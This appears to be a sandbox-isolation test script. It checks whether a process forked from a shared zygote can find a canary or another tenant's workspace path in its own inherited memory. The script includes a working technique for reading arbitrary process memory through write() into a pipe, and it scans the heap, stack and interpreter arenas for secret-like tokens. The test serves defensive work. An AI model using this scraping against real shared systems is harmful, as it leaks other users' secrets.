"""Searches its own memory, which began as a copy of the zygote's, for anything of the host or a neighbour.

Escape: a canary, or the path of a neighbour's workspace
Control: a text of its own is found in memory by the same search
Expect: none
"""

# control
import ctypes
import os

libc = ctypes.CDLL(None)
libc.sbrk.restype = ctypes.c_void_p
PIECE = 1 << 15
reader, writer = os.pipe()


def memory(start, end):
    """What is mapped there. The kernel copies it into a pipe, and says so instead of faulting where nothing is."""
    parts = []
    for address in range(start & ~0xFFF, end, PIECE):
        got = libc.write(writer, ctypes.c_void_p(address), ctypes.c_size_t(PIECE))
        parts.append(os.read(reader, got) if got > 0 else b"")
    return b"".join(parts)


needle = ctypes.create_string_buffer(b"find-" + b"me-1234")
b"find-" + b"me-1234" in memory(ctypes.addressof(needle) - PIECE, ctypes.addressof(needle) + PIECE)

# attack
import gc
import re

top = libc.sbrk(ctypes.c_long(0))
stack = ctypes.c_void_p.in_dll(libc, "environ").value
arenas = {id(found) >> 20 for found in gc.get_objects()}
regions = [(top - (64 << 20), top), (stack - (1 << 20), stack + (1 << 20)), *((a << 20, (a + 1) << 20) for a in arenas)]
loot = []
searched = 0
for start, end in regions:
    text = memory(start, end)
    searched += len(text)
    loot += re.findall(rb"CANARY-[a-z-]+-[0-9a-f]{24}", text)
assert searched > 1 << 20, searched
loot
